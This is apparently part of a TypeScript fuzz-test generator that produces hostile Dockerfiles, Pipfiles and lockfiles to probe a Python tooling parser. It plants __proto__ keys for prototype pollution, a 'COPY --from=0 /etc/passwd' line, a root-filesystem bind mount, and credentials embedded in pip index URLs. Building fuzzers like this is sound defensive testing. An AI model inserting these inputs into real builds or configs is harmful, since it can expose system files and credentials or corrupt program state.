  if (!family) throw new Error(`no fuzz family for ${format}`);
  return family(p, creds, files);
}

function mutateText(p: Picker, text: string): string {
  return mutate(p, text);
}

/**
 * A `__proto__` key in one of the TOML documents a named file brings along (the Pipfile, the
 * folder's pyproject.toml, a PEP 723 block): refused there as in a pyproject.toml spec.
 */
function plantReservedKey(
  format: FuzzFormat,
  random: () => number,
  specFile: string,
  files: Record<string, string>,
  setText: (text: string) => void,
  text: string,
): string | undefined {
  if (random() >= 0.15) return undefined;
  if (format === "pipfile") {
    setText(`${text}\n\n[__proto__]\nx = 1\n`);
    return "a [__proto__] table in the Pipfile";
  }
  for (const lock of ["uv.lock", "poetry.lock", "pdm.lock", "pylock.toml"]) {
    if (format === "lockfile" && files[lock] !== undefined) {
      files[lock] = `[__proto__]\nx = 1\n\n${files[lock]}`;
      return `a [__proto__] table in ${lock}`;
    }
  }
  // A block the reader sees: its opening line stands alone (a lone CR does not end a line).
  if (format === "pep723" && text.split(/\r?\n/).includes("# /// script")) {
    setText(text.replace("# /// script", '# /// script\n# "__proto__" = 1'));
    return "a __proto__ key in the script's metadata";
  }
  const sibling = `${specFile.slice(0, specFile.lastIndexOf("/") + 1)}pyproject.toml`;
  if (sibling !== specFile && files[sibling] !== undefined) {
    files[sibling] += '\n\n[project.scripts]\n"__proto__" = "a:b"\n';
    return "a __proto__ key in the folder's pyproject.toml";
  }
  return undefined;
}

/** One case of the PYENV family: an astro-style Dockerfile and the files of its context. */
export interface PyenvFuzzCase {
  name: string;
  text: string;
  files: Record<string, string>;
  buildArgs: Record<string, string>;
  /** The credential planted in this case (in the Dockerfile's own lines and in build args). */
  planted: string;
}

/**
 * The PYENV family: Dockerfiles whose PYENV lines, USER lines, FROM lines and numeric stage
 * references carry hostile bytes, among the instructions (continuations, heredocs, comments,
 * directives) that decide where an instruction starts and ends.
 */
export function pyenvFuzzCase(seed: number): PyenvFuzzCase {
  const p = new Picker(seed * 104_729 + 5);
  const creds = plant(p, seed);
  const files: Record<string, string> = {};
  const lines: string[] = [];
  if (p.chance(0.5)) lines.push("# syntax=pyfront/frontend:dev");
  if (p.chance(0.2)) lines.push(p.pick(["# escape=`", "# escape=\\", `# escape=${p.hostile()}`]));
  if (p.chance(0.3)) lines.push(`ARG BASE=${p.pick(["debian:trixie-slim", p.hostile()])}`);
  const version = () =>
    p.tame
      ? p.pick(["3.13", "3.14", "3.11", "3.8", "3"])
      : p.pick(["3.13", "3.8.10", p.hostile(), "2.7", "3.99"]);
  const reqs = () => {
    const path = p.chance(0.6) ? p.pick(["reqs/a.txt", "requirements.txt", "r/b-c_d.txt"]) : p.path();
    if (p.chance(0.8)) files[path.replace(/^(\.\/)+/, "")] = `click\n${p.hostile()}\n`;
    return path;
  };
  const instructions = 3 + p.int(10);
  // Most files start their first stage before any PYENV, as real ones do.
  if (p.chance(0.8))
    lines.push(`FROM ${p.pick(["debian:trixie-slim", "debian:bookworm-slim", "python:3.13-slim"])}`);
  for (let i = 0; i < instructions; i++) {
    const kind = p.int(10);
    if (kind <= 1) {
      const base = p.pick([
        "debian:trixie-slim",
        "debian:12",
        "python:3.13-slim-bookworm",
        "ubuntu:24.04",
        "$BASE",
        p.hostile(),
      ]);
      const as = p.chance(0.5) ? ` AS ${p.pick(["build", "pyfront-pyenv-x", "Final", p.hostile()])}` : "";
      lines.push(`FROM ${p.chance(0.1) ? "--platform=linux/amd64 " : ""}${base}${as}`);
    } else if (kind <= 4) {
      // Mostly distinct names: a name used twice is refused, which would hide the rest.
      const args = [
        version(),
        p.name(`${p.pick(["venv", "snowpark-env", "a.b_c"])}${p.chance(0.9) ? i : ""}`),
      ];
      if (p.chance(0.6)) args.push(reqs());
      if (!p.tame && p.chance(0.1)) args.push(p.hostile());
      const sep = !p.tame && p.chance(0.2) ? " \\\n  " : " ";
      lines.push(`${p.pick(["PYENV", "pyenv", "  PYENV"])} ${args.join(sep)}`);
    } else if (kind === 5) {
      lines.push(`USER ${p.pick(["app", "1000:1000", "root", "$APP_USER", p.hostile()])}`);
    } else if (kind === 6) {
      lines.push(
        p.pick([
          "COPY --from=0 /etc/passwd /tmp/passwd",
          `COPY --from=${p.int(3)} --chown=app / /x`,
          "RUN --mount=type=bind,from=1,source=/,target=/m true",
          `RUN echo ${p.hostile()}`,
        ]),
      );
    } else if (kind === 7) {
      lines.push(
        p.pick(["RUN <<EOF", "COPY <<-EOF /x"]),
        p.pick(["FROM scratch", "PYENV 3.13 inside", "x"]),
        "EOF",
      );
    } else if (kind === 8) {
      lines.push(`RUN pip install --index-url ${creds.url()} click`, `# ${p.hostile()}`, "");
    } else {
      lines.push(`RUN echo one \\`, p.pick(["  two", "# comment inside", ""]), "  three");
    }
  }
  const buildArgs: Record<string, string> = {};
  if (p.chance(0.3)) buildArgs.PYFRONT_PYENV_RELEASE = p.pick(["bookworm", "trixie", p.hostile()]);
  if (p.chance(0.3)) buildArgs.PIP_INDEX_URL = p.pick(["http://127.0.0.1:3141/simple", creds.url()]);
  return {
    name: `pyenv#${seed}`,
    text: mutateText(p, lines.join("\n")),
    files,
    buildArgs,
    planted: creds.planted,
  };
}
